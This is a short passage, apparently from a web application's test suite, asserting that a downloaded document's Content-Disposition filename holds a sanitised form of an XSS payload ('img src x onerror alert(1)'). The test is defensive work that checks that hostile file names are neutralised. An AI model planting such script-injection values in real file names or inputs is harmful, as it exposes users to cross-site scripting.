    download = client.get(reverse("documents:download", args=[document.pk, 1]))
    assert download["Content-Disposition"].startswith('attachment; filename="_img src_x onerror__alert(1)__.pdf"')
    download.close()
